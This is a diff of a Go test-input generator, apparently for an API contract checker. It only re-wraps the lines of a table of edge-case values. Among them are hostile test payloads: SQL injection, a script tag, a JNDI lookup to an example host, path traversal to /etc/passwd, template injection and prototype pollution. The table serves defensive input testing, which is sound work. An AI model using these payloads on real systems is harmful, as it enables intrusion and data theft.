@@ -32,18 +32,22 @@ type derivation func(contract.Field) []any
 // derivations are the classes by the words of the feature. What leaves the field out is [absent]; a text that
 // begins with [raw] stands in the body as it is.
 var derivations = map[string]derivation{
-	"very long text":                      texts(strings.Repeat("x", 300), strings.Repeat("long ", 2000), strings.Repeat("é", 40_000)),
-	"unusual letters":                     texts("Zoë Ødegård 日本 🪪", "a\u0301\u0327\u0301", "\u202eright to left", "\ufeffmark", "ＦＵＬＬ width", "\U0001F468\u200d\U0001F469\u200d\U0001F467"),
-	"control characters":                  texts("a\u0000b", "\t\r\n", "\u001b[31mred", "\u0085next\u2028line", "bell\u0007"),
-	"words that mean something elsewhere": texts("' OR '1'='1", "\"; DROP TABLE cards; --", "<script>alert(1)</script>", "${jndi:ldap://x.example.test/a}", "../../../../etc/passwd", "%00", "{{7*7}}", "null", "undefined", "__proto__"),
+	"very long text": texts(strings.Repeat("x", 300), strings.Repeat("long ", 2000), strings.Repeat("é", 40_000)),
+	"unusual letters": texts("Zoë Ødegård 日本 🪪", "a\u0301\u0327\u0301", "\u202eright to left", "\ufeffmark",
+		"ＦＵＬＬ width", "\U0001F468\u200d\U0001F469\u200d\U0001F467"),
+	"control characters": texts("a\u0000b", "\t\r\n", "\u001b[31mred", "\u0085next\u2028line", "bell\u0007"),
+	"words that mean something elsewhere": texts("' OR '1'='1", "\"; DROP TABLE cards; --", "<script>alert(1)</script>",
+		"${jndi:ldap://x.example.test/a}", "../../../../etc/passwd", "%00", "{{7*7}}", "null", "undefined", "__proto__"),
 	"numbers at the edges": func(f contract.Field) []any {
 		if f.Type != "number" && f.Type != "integer" {
 			return nil
 		}
-		return literals("0", "-0", "-1", "1e308", "-1e308", "1e400", "9007199254740993", "0.001", "1e-9", "99999999999999999999999999", "1.0", "1E2")
+		return literals("0", "-0", "-1", "1e308", "-1e308", "1e400", "9007199254740993", "0.001", "1e-9", "99999999999999999999999999", "1.0",
+			"1E2")
 	},
 	"another type": func(f contract.Field) []any {
-		all := map[string][]any{"string": {"text", ""}, "number": literals("12", "1.5"), "integer": literals("12"), "boolean": {true}, "object": {map[string]any{}, map[string]any{"a": 1}}, "array": {[]any{}, []any{"a", 1, nil}}}
+		all := map[string][]any{"string": {"text", ""}, "number": literals("12", "1.5"), "integer": literals("12"), "boolean": {true},
+			"object": {map[string]any{}, map[string]any{"a": 1}}, "array": {[]any{}, []any{"a", 1, nil}}}
 		var values []any
 		for _, kind := range []string{"string", "number", "boolean", "object", "array"} {
 			if kind != f.Type && (kind != "number" || f.Type != "integer") {
@@ -56,7 +60,8 @@ var derivations = map[string]derivation{
 	"a broken form": func(f contract.Field) []any {
 		switch f.Format {
 		case "uuid":
-			return []any{"00000000-0000-0000-0000-000000000000", "not-a-uuid", "123e4567-e89b-12d3-a456-42661417400", "{123e4567-e89b-42d3-a456-426614174000}", "123E4567E89B42D3A456426614174000"}
+			return []any{"00000000-0000-0000-0000-000000000000", "not-a-uuid", "123e4567-e89b-12d3-a456-42661417400",
+				"{123e4567-e89b-42d3-a456-426614174000}", "123E4567E89B42D3A456426614174000"}
 		case "email":
 			return []any{"no-at", "a@", "@b", "a@b@c.example.test", "a b@example.test"}
 		case "date", "date-time":
@@ -84,7 +89,8 @@ var derivations = map[string]derivation{
 	},
 	"a name that is there twice": func(contract.Field) []any { return []any{twice{}} },
 	"a further member that no page has": func(contract.Field) []any {
-		return []any{further{"kobcheck_further", true}, further{"__proto__", map[string]any{"admin": true}}, further{"id", "00000000-0000-4000-8000-000000000000"}, further{"status", "ACTIVE"}, further{"constructor", 1}}
+		return []any{further{"kobcheck_further", true}, further{"__proto__", map[string]any{"admin": true}},
+			further{"id", "00000000-0000-4000-8000-000000000000"}, further{"status", "ACTIVE"}, further{"constructor", 1}}
 	},
 }
 
